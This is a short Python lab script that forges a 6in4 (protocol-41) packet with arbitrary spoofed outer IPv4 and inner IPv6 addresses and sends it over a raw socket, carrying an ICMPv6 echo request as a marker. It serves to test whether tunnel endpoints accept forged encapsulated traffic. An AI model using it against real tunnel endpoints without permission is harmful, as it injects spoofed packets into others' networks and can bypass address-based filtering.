# SPDX-License-Identifier: GPL-3.0-or-later
"""Sends one protocol-41 packet with any outer and inner addresses: what an attacker on the IPv4 Internet can do.

    lab_forge.py OUTER_SOURCE OUTER_DESTINATION INNER_SOURCE INNER_DESTINATION [PAYLOAD]

The inner packet is an ICMPv6 echo request that carries PAYLOAD, by which tcpdump can tell it apart.
"""

from __future__ import annotations

import ipaddress
import socket
import struct
import sys

ICMPV6 = 58
ECHO_REQUEST = 128


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def echo_request(source: str, destination: str, payload: bytes) -> bytes:
    addresses = ipaddress.IPv6Address(source).packed + ipaddress.IPv6Address(destination).packed
    message = struct.pack("!BBHHH", ECHO_REQUEST, 0, 0, 0x1AB, 1) + payload
    pseudo = addresses + struct.pack("!I3xB", len(message), ICMPV6)
    message = message[:2] + struct.pack("!H", checksum(pseudo + message)) + message[4:]
    return struct.pack("!IHBB", 6 << 28, len(message), ICMPV6, 64) + addresses + message


def outer_header(source: str, destination: str) -> bytes:
    # The kernel fills in length, identification and checksum.
    return struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_IPV6, 0,
        socket.inet_aton(source), socket.inet_aton(destination),
    )  # fmt: skip


def main(outer_source: str, outer_destination: str, source: str, destination: str, payload: str = "forged") -> None:
    packet = outer_header(outer_source, outer_destination) + echo_request(source, destination, payload.encode())
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.sendto(packet, (outer_destination, 0))


if __name__ == "__main__":
    main(*sys.argv[1:])
